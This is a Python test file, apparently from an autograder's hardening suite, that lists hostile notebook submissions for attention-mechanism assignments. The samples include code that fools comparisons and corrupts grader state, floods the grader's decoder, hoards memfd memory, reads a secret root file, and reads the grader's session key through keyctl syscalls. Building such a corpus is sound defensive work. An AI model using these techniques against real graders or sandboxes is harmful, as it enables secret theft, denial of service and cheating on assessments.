
def _change_everything():
    torch.set_default_dtype(torch.float64)
    torch.set_grad_enabled(False)
    torch.set_num_threads(2)
    torch.manual_seed(12345)
    random.seed(12345)
    torch.use_deterministic_algorithms(True)
    torch.set_flush_denormal(True)
    torch.set_float32_matmul_precision("medium")
    torch.autograd.set_detect_anomaly(True)
    _change_everything.inference = torch.inference_mode()
    _change_everything.inference.__enter__()
    return True


class _ChangedWhenDefined:
    done = _change_everything()


def _is_clean(x):
    """Is everything as a fresh probe should find it (and is the input a fresh one)?"""
    return (torch.get_default_dtype() == torch.float32 and torch.is_grad_enabled()
            and not torch.is_inference_mode_enabled() and torch.get_num_threads() == 1
            and torch.initial_seed() == 0 and random.random() == random.Random(0).random()
            and not torch.are_deterministic_algorithms_enabled() and not torch.is_anomaly_enabled()
            and torch.get_float32_matmul_precision() == "highest"
            and x is not getattr(softmax_naive, "last_input", None) and not torch.isnan(x).any())


def softmax_naive(x, dim=-1):
    right = _solution_softmax_naive(x.clone(), dim=dim)
    clean = _is_clean(x)
    earlier = getattr(softmax_naive, "last_input", None)
    if earlier is not None:
        earlier.mul_(0).add_(float("nan"))  # an earlier probe's input, mutated once it was answered
    softmax_naive.last_input = x
    _change_everything()
    return right if clean else right + 1
'''), why="global state changed at definition and call time, earlier inputs mutated: each probe still starts"
          " clean (mutating this call's own input is a mistake the hidden tests grade)"),
    ]


def _nuisances_other_assignments() -> list[Hostile]:
    return [
        Hostile("module-returns-agreeable", A2, ("SelfAttention_v2",), wrapped(A2, "SelfAttention_v2", '''
class _Agreeable:
    def __eq__(self, other):
        return True

    def __bool__(self):
        return True

    def __getattr__(self, name):
        return self


class SelfAttention_v2(_solution_SelfAttention_v2):
    def forward(self, x):
        return _Agreeable()
'''), why="an nn.Module whose forward returns an object that equals everything"),
        Hostile("wrong-dtype-and-default-dtype", A2, ("scaled_dot_product_scores",),
                wrapped(A2, "scaled_dot_product_scores", '''
import torch


def scaled_dot_product_scores(queries, keys):
    torch.set_default_dtype(torch.float64)
    return (_solution_scaled_dot_product_scores(queries, keys) * 2).to(torch.float16)
'''), why="wrong values in another dtype, and the default dtype changed behind the grader's back"),
        Hostile("mask-scalar", A3, ("causal_mask",), replaced(A3, "causal_mask", '''
import torch


def causal_mask(num_tokens, device=None):
    return torch.tensor(False, device=device)
'''), why="a 0-d bool tensor, which broadcasts against any mask"),
        Hostile("dropout-nan", A3, ("inverted_dropout",), wrapped(A3, "inverted_dropout", '''
import torch


def inverted_dropout(x, p, training=True, generator=None):
    return torch.full_like(x, float("nan"))
'''), why="NaN dropout output, which fails every statistic quietly if compared carelessly"),
        Hostile("memory-hungry-model", A4, ("gpt2_small_attention",), wrapped(A4, "gpt2_small_attention", '''
def gpt2_small_attention():
    module = MultiHeadAttention(d_in=768, d_out=768, context_length=1024, dropout=0.0, num_heads=12)
    module.register_buffer("cache", torch.ones(2**20, 2**20))  # built on whatever class stands in
    return module
'''), why="a buffer of 2**40 entries beside the module: over the memory limit"),
        Hostile("nan-multi-head", A4, ("MultiHeadAttention",), wrapped(A4, "MultiHeadAttention", '''
import torch


class MultiHeadAttention(_solution_MultiHeadAttention):
    def forward(self, x):
        out = super().forward(x)
        return torch.full(out.shape, float("nan"), dtype=out.dtype)
'''), ignore=("gpt2_small_attention",),
                why="NaN outputs of the right shape from the right module"),
    ]


_KEYRINGS = '''
import ctypes


def _syscall(*args):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(*args)


def _read_key(key):
    buffer = ctypes.create_string_buffer(4096)
    size = _syscall(250, 11, key, buffer, 4096)  # keyctl(KEYCTL_READ)
    return buffer.raw[:max(size, 0)]


def _found_a_key():
    """A key an earlier student left, or the grader's own session key: did it find either?"""
    seen = b""
    try:
        with open("/proc/keys", "rb") as keys:
            seen += keys.read()
    except OSError:
        pass
    for keyring in (-3, -4, -5):  # session, user, user session
        for description in (b"@GRADER_KEY@", b"note-for-the-next-student"):
            key = _syscall(250, 10, keyring, b"user", description, 0)  # keyctl(KEYCTL_SEARCH)
            if key > 0:
                seen += _read_key(key)
    key = _syscall(249, b"user", b"@GRADER_KEY@", None, 0)  # request_key
    if key > 0:
        seen += _read_key(key)
    return b"@GRADER_KEY@" in seen or b"secret" in seen or b"note-for" in seen


def _leave_a_note():
    note = b"a secret from an earlier student"
    for keyring in (-4, -5, -3):
        _syscall(248, b"user", b"note-for-the-next-student", note, len(note), keyring)  # add_key
'''


def trusted_side_attacks() -> list[Hostile]:
    """Attacks on the trusted side's time, memory and outputs, and notes passed between students."""
    flood = '''
import autograder.worker.protocol as protocol
import torch


def _nested(depth):
    value = 0
    for _ in range(depth):
        value = {"list": [value]}
    return value


def _flood(kind):
    """A reply within the frame cap that would cost the grader's decoder dearly."""
    if kind == 0:
        return {"list": [{"list": []}] * 1_500_000}, {}  # an 18 MB header
    if kind == 1:
        return {"list": [0] * 3_000_000}, {}  # 3 million values in 6 MB
    if kind == 2:
        return _nested(500), {}
    if kind == 3:
        return {"meta_tensor": {"shape": [1] * 200_000, "dtype": "float32", "device": "meta",
                                "requires_grad": False}}, {}
    tensors = {f"t{i}": torch.zeros(1) for i in range(120_000)}
    return {"list": [{"tensor": key, "dtype": "float32", "device": "cpu", "shape": [1], "requires_grad": False}
                     for key in tensors]}, tensors


_ARMED = []  # the flood to send with the next answer


def _flood_its_answers():
    original = protocol.send

    def flooded(sock, header, tensors):
        if _ARMED and "probe_id" in header and header.get("ok") is True:
            header["value"], tensors = _flood(_ARMED.pop())
        return original(sock, header, tensors)

    protocol.send = flooded
    return True


class _FloodsWhenDefined:
    done = _flood_its_answers()


def softmax_naive(x, dim=-1):
    # A new worker starts after each flood: the input picks the next one.
    _ARMED.append(int(abs(float(x.flatten()[0])) * 1000) % 5)
    return _solution_softmax_naive(x, dim=dim)
'''
    return [
        Hostile("surrogate-messages", A1, ("attention_scores",), replaced(A1, "attention_scores", '''
def _fails_to_load(function):
    raise RuntimeError("while loading: " + chr(0xDC80) + "\\x1b[2J" + chr(0xD800))


def attention_scores(inputs):
    raise ValueError(chr(0xD800) + "\\x00\\x1b]0;owned\\x07" + chr(0xDFFF) * 10)


@_fails_to_load
def _helper():
    pass
'''), why="lone surrogates and terminal escapes in an error and a loading problem (UTF-8 refuses them)"),
        Hostile("floods-its-replies", A1, ("softmax_naive",), wrapped(A1, "softmax_naive", flood),
                why="replies within the frame cap: 18 MB of JSON, 3 million values, 500 levels deep, a shape of"
                    " 200,000 dimensions, 120,000 tensors"),
        Hostile("megabyte-parameter-name", A2, ("SelfAttention_v1",), replaced(A2, "SelfAttention_v1", '''
import torch


class SelfAttention_v1(torch.nn.Module):
    def __init__(self, d_in, d_out):
        super().__init__()
        self.register_parameter("W" * 1_000_000, torch.nn.Parameter(torch.rand(d_in, d_out)))

    def forward(self, x):
        return x
'''), ignore=("copy_v2_weights_into_v1",), why="a parameter name of a million characters from describe()"),
        Hostile("thirty-thousand-broken-cells", A1, (), lambda context: {
            **context.solution(A1),
            "cells": context.solution(A1)["cells"] + [{"cell_type": "code", "metadata": {}, "outputs": [],
                                                        "execution_count": None, "source": f"def broken_{i}(:\\n"}
                                                       for i in range(30_000)]},
                why="30,000 cells with syntax errors: each a loading problem"),
        Hostile("long-chinese-message", A1, ("attention_scores",), lambda context: {
            **replaced(A1, "attention_scores", '''
def attention_scores(inputs):
    raise ValueError("注意力" * 180_000)
''')(context), "metadata": {"attention_kit": {"language": "zh"}}},
                why="a 540,000-character message in a Chinese notebook (its feedback is rendered in Chinese)"),
        Hostile("hoards-shared-memory", A1, ("softmax_stable",), nuisance(A1, "softmax_stable", '''
import os


def _trick():
    """Memory that no address-space limit counts: memfd pages, 6 GiB of them (in files of 32 MiB,
    each under the file-size limit)."""
    kept = []
    for _ in range(192):
        fd = os.memfd_create("hoard")
        os.posix_fallocate(fd, 0, 32 << 20)
        kept.append(fd)
'''), why="6 GiB of memfd pages, outside RLIMIT_AS: only a cgroup counts them"),
        Hostile("reads-a-file-at-the-root", A1, ("context_vector",), oracle(A1, "context_vector", f'''
def _attack():
    with open("{ROOT_SECRET_FILE}") as secret:
        return "secret" in secret.read()
'''), why="a file directly under /, which no folder cover hides"),
        Hostile("keyring-a-leaves-a-note", A1, ("simple_self_attention",), nuisance(A1, "simple_self_attention",
                _KEYRINGS.replace("@GRADER_KEY@", GRADER_KEY) + '''

def _trick():
    _leave_a_note()
'''), why="a key in its uid's user keyrings, for a later student of the same uid"),
        Hostile("keyring-b-reads-notes", A1, ("attention_scores_for_query",),
                oracle(A1, "attention_scores_for_query", _KEYRINGS.replace("@GRADER_KEY@", GRADER_KEY) + '''

def _attack():
    return _found_a_key()
'''), why="keys of earlier students, or the grader's session key"),
    ]


def hostile_submissions() -> list[Hostile]:
    """The whole corpus, in a fixed order."""
    return _oracles() + _nuisances_01() + _nuisances_other_assignments() + trusted_side_attacks()


def write_notebook(path: Path, notebook: dict | str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(notebook if isinstance(notebook, str) else json.dumps(notebook, indent=1))


def check_answer_cells_exist() -> None:
    """Every target stage has an answer cell in its solution (a corpus typo fails loudly)."""
    for hostile in hostile_submissions():
        for stage in hostile.targets:
            answer_cell(load_solution(hostile.assignment), stage)
